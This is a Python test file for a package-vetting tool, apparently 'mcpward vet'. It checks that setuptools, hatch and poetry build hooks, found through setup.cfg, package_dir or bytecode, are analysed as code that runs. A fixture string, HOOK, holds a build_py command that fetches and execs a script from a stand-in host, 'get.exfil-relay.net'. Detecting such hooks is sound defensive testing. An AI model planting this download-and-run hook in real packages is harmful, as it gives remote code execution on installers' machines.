"""Attack on vet's reading of an sdist built by setuptools: the code setup.cfg makes the build
run, or a package folder moved by ``package_dir``, was read as a test nobody loads.

setuptools reads setup.cfg as it reads pyproject.toml's ``[tool.setuptools]``: ``[options]
cmdclass`` names commands it imports and runs when pip builds the sdist (``install =
relay.hooks.Install``), and an ``attr:`` value (``version = attr: relay.VERSION``) names a
module it may import. It finds those modules, and the packages it installs, through
``package_dir`` (``= lib``: the root package folder is ``lib/``). vet followed pyproject's
``cmdclass`` and ``attr`` only, from the root or ``src/``: a command in ``tests/``, named by
setup.cfg or found through ``package_dir``, was read as a fixture nobody loads (information),
and an sdist whose build command fetched and ran a script was vetted ``pass``, on first look
and against the release before. These modules are now code that runs, found as setuptools
finds them.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from mcpward.vet import VetOptions, run_vet
from vet_fixtures import relay_sdist, vetted_both_ways

BUILD_SYSTEM = '[build-system]\nrequires = ["setuptools>=69"]\nbuild-backend = "setuptools.build_meta"\n'
HOOK = (
    "import urllib.request\n"
    "from setuptools.command.build_py import build_py\n\n"
    "class Hook(build_py):\n"
    "    def run(self):\n"
    '        exec(urllib.request.urlopen("https://get.exfil-relay.net/x").read())\n'
    "        super().run()\n"
)
HARMLESS = (
    "from setuptools.command.build_py import build_py\n\n"
    "class Hook(build_py):\n"
    "    def run(self):\n"
    "        self.announce('building')\n"
    "        super().run()\n"
)


def _sdist(folder: Path, version: str, files: dict[str, str]) -> Path:
    return relay_sdist(folder, version, files, base={"pyproject.toml": BUILD_SYSTEM})


CASES = [
    ("[options]\ncmdclass =\n    build_py = tests.hooks.Hook\n", {}, "tests/hooks.py"),
    ("[options]\ncmdclass =\n    build_py = tests.hooks:Hook\n", {}, "tests/hooks.py"),
    ("[metadata]\nname = relay-mcp\nversion = attr: docs.version.VERSION\n", {}, "docs/version.py"),
    ("[options]\npackage_dir =\n    =tests\ncmdclass =\n    build_py = hooks.Hook\n", {}, "tests/hooks.py"),
    (
        "[options]\npackage_dir =\n    relay = examples/relay\ncmdclass =\n    build_py = relay.hooks.Hook\n",
        {},
        "examples/relay/hooks.py",
    ),
    (
        None,
        {
            "pyproject.toml": BUILD_SYSTEM
            + '[tool.setuptools]\npackage-dir = {"" = "tests"}\n[tool.setuptools.cmdclass]\nbuild_py = "hooks.Hook"\n'
        },
        "tests/hooks.py",
    ),
]
IDS = [
    "setup.cfg cmdclass",
    "setup.cfg cmdclass with a colon",
    "setup.cfg attr",
    "package_dir root",
    "package_dir of a package",
    "pyproject package-dir",
]


@pytest.mark.parametrize("setup_cfg,extra,module", CASES, ids=IDS)
def test_code_setuptools_runs_from_setup_cfg_is_analysed(
    tmp_path: Path, setup_cfg: str | None, extra: dict[str, str], module: str
) -> None:
    config = {"setup.cfg": setup_cfg} if setup_cfg else {}
    old = _sdist(tmp_path, "1.0.0", {**config, **extra, module: HARMLESS})
    new = _sdist(tmp_path, "1.0.1", {**config, **extra, module: HOOK})
    for report in vetted_both_ways(new, old, tmp_path / "c"):
        findings = {(f.rule, f.severity.value) for f in report.findings}
        assert ("download-and-run", "critical") in findings, findings
        assert report.verdict == "block"


def test_the_package_folder_package_dir_names_is_installed_code(tmp_path: Path) -> None:
    """``package_dir = =tests``: the packages pip installs are those under tests/."""
    setup_cfg = "[options]\npackages = find:\npackage_dir =\n    =tests\n"
    old = _sdist(tmp_path, "1.0.0", {"setup.cfg": setup_cfg, "tests/relay/__init__.py": "X = 1\n"})
    new = _sdist(tmp_path, "1.0.1", {"setup.cfg": setup_cfg, "tests/relay/__init__.py": HOOK})
    report = run_vet(VetOptions(target=str(new), baseline=str(old), cache_dir=tmp_path / "c"))
    assert ("download-and-run", "critical") in {(f.rule, f.severity.value) for f in report.findings}


@pytest.mark.parametrize(
    "pyproject",
    [
        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
        '[tool.hatch.build.targets.wheel]\npackages = ["tests/relay"]\n',
        '[build-system]\nrequires = ["poetry-core"]\nbuild-backend = "poetry.core.masonry.api"\n'
        '[tool.poetry]\npackages = [{include = "relay", from = "tests"}]\n',
        BUILD_SYSTEM + '[tool.setuptools.packages.find]\nwhere = ["tests"]\n',
        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
        '[tool.hatch.build.targets.wheel.force-include]\n"tests/relay/__init__.py" = "relay/__init__.py"\n',
        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
        '[tool.hatch.build.targets.wheel]\nonly-include = ["tests/relay"]\n',
    ],
    ids=[
        "hatch packages",
        "poetry packages",
        "setuptools find where",
        "hatch force-include",
        "hatch only-include",
    ],
)
def test_the_package_folder_another_backend_installs_from_is_installed_code(
    tmp_path: Path, pyproject: str
) -> None:
    old = _sdist(tmp_path, "1.0.0", {"pyproject.toml": pyproject, "tests/relay/__init__.py": "X = 1\n"})
    new = _sdist(tmp_path, "1.0.1", {"pyproject.toml": pyproject, "tests/relay/__init__.py": HOOK})
    report = run_vet(VetOptions(target=str(new), baseline=str(old), cache_dir=tmp_path / "c"))
    assert ("download-and-run", "critical") in {(f.rule, f.severity.value) for f in report.findings}


def test_a_command_shipped_as_bytecode_is_not_passed_unread(tmp_path: Path) -> None:
    """setuptools loads ``hooks.*`` when there is no ``hooks.py``: bytecode, or a native
    extension, which no analyser reads."""
    setup_cfg = "[options]\ncmdclass =\n    build_py = tests.hooks.Hook\n"
    old = _sdist(tmp_path, "1.0.0", {"setup.cfg": setup_cfg, "tests/hooks.py": HARMLESS})
    new = _sdist(tmp_path, "1.0.1", {"setup.cfg": setup_cfg, "tests/hooks.cpython-312.pyc": "\x00" * 64})
    for report in vetted_both_ways(new, old, tmp_path / "c"):
        incomplete = [f.config_path for f in report.findings if f.rule == "analysis-incomplete"]
        assert incomplete == ["tests/hooks.cpython-312.pyc"], [(f.rule, f.message) for f in report.findings]
        assert report.verdict == "review"


def test_a_harmless_command_passes(tmp_path: Path) -> None:
    setup_cfg = "[metadata]\nname = relay-mcp\nversion = attr: relay_mcp.VERSION\n[options]\npackages = find:\npackage_dir =\n    =src\ncmdclass =\n    build_py = relay_mcp.build.Hook\n"
    files = {
        "setup.cfg": setup_cfg,
        "src/relay_mcp/__init__.py": 'VERSION = "1.0.1"\n',
        "src/relay_mcp/build.py": HARMLESS,
        "tests/test_relay.py": "def test_ok():\n    assert True\n",
    }
    old = _sdist(tmp_path, "1.0.0", files)
    new = _sdist(tmp_path, "1.0.1", files)
    report = run_vet(VetOptions(target=str(new), baseline=str(old), cache_dir=tmp_path / "c"))
    assert report.verdict == "pass", [(f.rule, f.message) for f in report.findings]
